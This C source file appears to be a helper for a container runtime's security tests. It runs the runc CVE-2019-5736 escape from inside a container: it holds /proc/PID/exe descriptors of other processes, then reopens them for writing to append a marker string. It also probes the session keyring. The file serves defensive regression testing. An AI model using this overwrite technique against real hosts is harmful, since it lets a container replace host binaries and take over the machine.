/*
 * A static helper that the security tests copy into a container's rootfs (never the example's):
 * what a hostile process in the container would try, reported as "key=value" lines.
 *
 *   attacker exe-write PID      open /proc/PID/exe, wait until PID has exec'd something else,
 *                               then reopen the held fd for writing and append to it
 *                               (the runc CVE-2019-5736 attack)
 *   attacker exe-race SECONDS   the same against every process that appears meanwhile
 *   attacker session            the description of this process's session keyring
 *   attacker monotonic          CLOCK_MONOTONIC, in seconds
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *result(int rc) {
  return rc >= 0 ? "ok" : strerrorname_np(errno);
}

static int exe_link(int pid, char *out, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, out, size - 1);
  if (n < 0) return -1;
  out[n] = '\0';
  return 0;
}

/* Appends through the fd held on another process's executable; "ok" would be a host write. */
static int write_through(int held) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  int fd = open(path, O_WRONLY | O_APPEND);
  if (fd < 0) return -1;
  int rc = (int)write(fd, "tsrunc-test-was-here\n", 21);
  close(fd);
  return rc;
}

static int exe_write(int pid) {
  char path[64], before[4096], now[4096];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int held = open(path, O_RDONLY);
  printf("open=%s\n", result(held));
  if (exe_link(pid, before, sizeof before) < 0) strcpy(before, "?");
  printf("target=%s\n", before);
  fflush(stdout);
  if (held < 0) return 0;
  for (int i = 0; i < 200; i++) {
    if (exe_link(pid, now, sizeof now) == 0 && strcmp(now, before) != 0) break;
    usleep(50000);
  }
  printf("write=%s\n", result(write_through(held)));
  return 0;
}

static int exe_race(int seconds) {
  int held[256], count = 0, self = getpid();
  time_t end = time(NULL) + seconds;
  char seen[32768] = "";
  while (time(NULL) < end && count < 256) {
    DIR *proc = opendir("/proc");
    if (!proc) break;
    struct dirent *entry;
    while ((entry = readdir(proc)) != NULL && count < 256) {
      int pid = atoi(entry->d_name);
      char link[4096], key[32];
      if (pid <= 0 || pid == self || exe_link(pid, link, sizeof link) < 0) continue;
      /* The container's own programs are the rootfs's, not what this test looks for. */
      if (strcmp(link, "/bin/busybox") == 0 || strstr(link, "attacker") != NULL) continue;
      snprintf(key, sizeof key, " %d:", pid);
      if (strstr(seen, key)) continue;
      if (strlen(seen) + strlen(key) < sizeof seen) strcat(seen, key);
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY);
      printf("target=%s open=%s\n", link, result(fd));
      if (fd >= 0) held[count++] = fd;
    }
    closedir(proc);
  }
  sleep(1); /* the processes have exec'd or gone by now */
  int written = 0;
  for (int i = 0; i < count; i++) written += write_through(held[i]) >= 0;
  printf("opened=%d\nwritten=%d\n", count, written);
  return 0;
}

static int session(void) {
  long id = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* KEY_SPEC_SESSION_KEYRING */, 0);
  char description[512] = "";
  if (id < 0 || syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, id, description, sizeof description) < 0) {
    printf("session=%s\n", strerrorname_np(errno));
    return 0;
  }
  char *name = strrchr(description, ';');
  printf("session=%s\n", name ? name + 1 : description);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "exe-write") == 0) return exe_write(atoi(argv[2]));
  if (argc == 3 && strcmp(argv[1], "exe-race") == 0) return exe_race(atoi(argv[2]));
  if (argc == 2 && strcmp(argv[1], "session") == 0) return session();
  if (argc == 2 && strcmp(argv[1], "monotonic") == 0) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    printf("monotonic=%lld\n", (long long)now.tv_sec);
    return 0;
  }
  fprintf(stderr, "usage: attacker exe-write PID | exe-race SECONDS | session | monotonic\n");
  return 2;
}
